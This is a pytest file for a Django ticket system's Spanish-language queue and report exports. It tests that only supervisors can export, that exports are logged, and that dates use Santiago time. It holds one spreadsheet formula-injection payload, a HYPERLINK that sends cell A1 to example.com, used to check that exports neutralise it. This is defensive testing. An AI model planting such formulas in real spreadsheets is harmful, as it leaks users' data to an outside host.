"""Exports of the report and of the queue: Spanish headers, Santiago dates, formulas
neutralised (read back with openpyxl), supervisors only, each one in the access log."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine

from tests.conftest import make_ticket
from tickets.models import AccessLog, Region

SANTIAGO = ZoneInfo("America/Santiago")
QUEUE_CSV = "/admin/tickets/ticket/exportar.csv"
QUEUE_XLSX = "/admin/tickets/ticket/exportar.xlsx"
REPORT_CSV = "/admin/tickets/ticket/informes/exportar.csv"
REPORT_XLSX = "/admin/tickets/ticket/informes/exportar.xlsx"
# A requester's name that a spreadsheet would run as a formula if it were not neutralised.
FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Ver")'


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_table(response) -> list[list[str]]:
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_book(response):
    return openpyxl.load_workbook(io.BytesIO(body(response)))


@pytest.fixture
def supervisor_client(client, supervisor):
    client.force_login(supervisor)
    return client


@pytest.fixture
def agent_client(client, agent):
    client.force_login(agent)
    return client


@pytest.fixture
def hostile(db):
    """A ticket whose requester typed formulas, created at a known moment in winter time."""
    with time_machine.travel(datetime(2026, 8, 3, 9, 30, tzinfo=SANTIAGO), tick=False):
        return make_ticket(
            name=FORMULA, message="+56 9 1234 5678\nllámenme", email="alicia@example.org"
        )


@pytest.fixture
def other(db):
    with time_machine.travel(datetime(2026, 8, 4, 10, 0, tzinfo=SANTIAGO), tick=False):
        return make_ticket(name="Bruno Pérez", region=Region.objects.get(code="AP"))


# --- the queue -------------------------------------------------------------------------------------
def test_the_queue_csv_neutralises_formulas_and_shows_santiago_time(
    supervisor_client, hostile, other
):
    r = supervisor_client.get(QUEUE_CSV, {"estado": "todos"})
    assert r.status_code == 200
    assert r["Content-Disposition"].startswith('attachment; filename="tickets-')
    rows = csv_table(r)
    assert rows[0][:4] == ["Número", "ID de seguimiento", "Creado", "Estado"]
    by_number = {row[0]: row for row in rows[1:]}
    row = by_number[str(hostile.number)]
    assert row[9] == "'" + FORMULA
    assert row[2] == "2026-08-03 09:30:00"  # 13:30 UTC, shown as the office clock read
    assert row[3] == "Nuevo"
    assert by_number[str(other.number)][9] == "Bruno Pérez"


def test_the_queue_xlsx_holds_text_not_formulas(supervisor_client, hostile, other):
    r = supervisor_client.get(QUEUE_XLSX, {"estado": "todos"})
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = xlsx_book(r).active
    rows = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in rows[0]][:3] == ["Número", "ID de seguimiento", "Creado"]
    cells = {row[0].value: row for row in rows[1:]}
    name = cells[hostile.number][9]
    assert name.data_type == "s"
    assert name.value == "'" + FORMULA
    assert cells[other.number][9].value == "Bruno Pérez"
    created = cells[hostile.number][2]
    assert created.is_date
    assert created.value == datetime(2026, 8, 3, 9, 30)
    assert not any(c.data_type == "f" for row in rows for c in row)


def test_the_queue_export_keeps_the_pages_filters(supervisor_client, hostile, other):
    region = Region.objects.get(code="AP")
    rows = csv_table(supervisor_client.get(QUEUE_CSV, {"region__id__exact": region.pk}))
    assert [row[0] for row in rows[1:]] == [str(other.number)]
    rows = csv_table(supervisor_client.get(QUEUE_CSV, {"q": "Bruno"}))
    assert [row[0] for row in rows[1:]] == [str(other.number)]


def test_the_queue_export_defaults_to_open_tickets_like_the_queue(
    supervisor_client, hostile, other, supervisor
):
    hostile.mark_resolved(user=supervisor)
    rows = csv_table(supervisor_client.get(QUEUE_CSV))
    assert [row[0] for row in rows[1:]] == [str(other.number)]
    rows = csv_table(supervisor_client.get(QUEUE_CSV, {"estado": "todos"}))
    assert len(rows) == 3


def test_a_bad_filter_sends_back_to_the_queue(supervisor_client, hostile):
    r = supervisor_client.get(QUEUE_CSV, {"nonsense__exact": "1"})
    assert r.status_code == 302
    assert r["Location"].endswith("?e=1")
    assert not AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).exists()


def test_every_export_is_in_the_access_log(supervisor_client, supervisor, hostile, other):
    body(supervisor_client.get(QUEUE_XLSX, {"estado": "todos"}))
    body(supervisor_client.get(REPORT_CSV))
    rows = list(AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).order_by("pk"))
    assert [(r.user, r.ticket) for r in rows] == [(supervisor, None), (supervisor, None)]
    assert rows[0].details == "Cola de tickets (XLSX): estado=todos · 2 filas"
    assert rows[1].details.startswith("Informe (CSV): ")
    assert rows[0].ip_address == "127.0.0.1"


def test_viewing_the_report_is_not_logged_as_an_export(supervisor_client, hostile):
    supervisor_client.get("/admin/tickets/ticket/informes/")
    assert not AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).exists()


def test_the_access_log_lists_an_export_without_a_ticket(supervisor_client, hostile):
    body(supervisor_client.get(QUEUE_CSV))
    r = supervisor_client.get("/admin/tickets/accesslog/")
    assert r.status_code == 200
    html = r.content.decode()
    assert "Exportación" in html
    assert "Cola de tickets (CSV)" in html


@pytest.mark.parametrize("url", [QUEUE_CSV, QUEUE_XLSX, REPORT_CSV, REPORT_XLSX])
def test_agents_cannot_export(agent_client, hostile, url):
    assert agent_client.get(url).status_code == 403
    assert not AccessLog.objects.filter(kind=AccessLog.Kind.EXPORT).exists()


@pytest.mark.parametrize("url", [QUEUE_CSV, REPORT_XLSX])
def test_supervisors_can_export(supervisor_client, hostile, url):
    assert supervisor_client.get(url).status_code == 200


def test_an_unknown_format_is_not_found(supervisor_client, hostile):
    assert supervisor_client.get("/admin/tickets/ticket/exportar.pdf").status_code == 404


def test_the_queue_shows_export_links_with_its_filters_to_supervisors_only(
    client, supervisor, agent, hostile
):
    client.force_login(supervisor)
    html = client.get("/admin/tickets/ticket/", {"estado": "todos"}).content.decode()
    assert f'href="{QUEUE_XLSX}?estado=todos"' in html
    client.force_login(agent)
    html = client.get("/admin/tickets/ticket/", {"estado": "todos"}).content.decode()
    assert QUEUE_XLSX not in html


# --- the report ---------------------------------------------------------------------------------------
def test_the_report_xlsx_has_a_sheet_per_table_with_the_pages_numbers(
    supervisor_client, hostile, other
):
    with time_machine.travel(datetime(2026, 8, 31, 12, tzinfo=SANTIAGO), tick=False):
        page = supervisor_client.get("/admin/tickets/ticket/informes/")
        book = xlsx_book(supervisor_client.get(REPORT_XLSX))
    tables = page.context["tables"]
    assert len(book.sheetnames) == len(tables)
    assert "Nivel de servicio por región" in book.sheetnames
    sheet = book["Abiertos por región"]
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values == [["Región", "Tickets"], *tables["now_by_region"].rows]
    # Equal counts: north to south.
    assert values[1:] == [["Arica y Parinacota", 1], ["Metropolitana de Santiago", 1]]


def test_the_report_csv_has_every_table_under_its_title(supervisor_client, hostile, other):
    with time_machine.travel(datetime(2026, 8, 31, 12, tzinfo=SANTIAGO), tick=False):
        rows = csv_table(
            supervisor_client.get(REPORT_CSV, {"region": Region.objects.get(code="AP").pk})
        )
    assert rows[0] == ["Tickets abiertos ahora"]
    assert ["Nivel de servicio por región"] in rows
    assert ["Carga de trabajo por agente"] in rows
    assert ["Tickets creados en el período", "1"] in rows
